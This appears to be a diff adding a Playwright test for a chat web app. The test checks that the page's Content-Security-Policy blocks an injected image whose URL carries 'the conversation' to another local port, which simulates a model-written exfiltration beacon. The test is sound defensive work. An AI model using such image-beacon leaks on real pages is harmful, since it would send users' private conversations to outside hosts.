@@ -156,3 +156,36 @@ def test_the_static_bundle_is_installable_from_its_plain_host(
     page.goto(deploy.page_url)
     _sign_in(page)
     assert installability_errors(page) == []
+
+
+LEAK_JS = """async (url) => {
+    const blocked = new Promise((resolve) => document.addEventListener(
+        "securitypolicyviolation", (e) => resolve([e.violatedDirective, e.blockedURI]),
+        {once: true}));
+    const image = document.createElement("img");
+    image.src = url;
+    document.body.append(image);
+    return await blocked;
+}"""
+
+
+def test_the_static_page_enforces_the_servers_policy_with_the_api_allowed(
+    page: Page, guard: PageGuard, deploy: StaticDeploy
+) -> None:
+    """A plain static host sends no header: the policy in the page still blocks an image a
+    model could write to leak the chat (another origin, here another local port), while the
+    page talks to its API (the sign-in below goes through ``connect-src``)."""
+    guard.allow_console_error(r"status of 401|Content Security Policy")
+    page.goto(deploy.page_url)
+    expect(page.locator("form[name=sign-in]")).to_be_visible(timeout=BOOT_TIMEOUT_MS)
+    _sign_in(page)
+    policy = page.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")
+    assert policy is not None and f"connect-src 'self' {deploy.api.url}" in policy
+    leak = f"http://127.0.0.1:{free_port()}/leak.png?secret=the-conversation"
+    failed: dict[str, str] = {}
+    page.on("requestfailed", lambda request: failed.update({request.url: request.failure or ""}))
+    directive, blocked = page.evaluate(LEAK_JS, leak)
+    assert directive == "img-src" and blocked.startswith(leak.split("?")[0])
+    expect(page.locator("img[src*='leak.png']")).to_be_attached()
+    page.wait_for_function("() => true")  # NOTE: one more turn for the failed request's event
+    assert failed.get(leak) == "csp", "the browser refused it: nothing left the page"
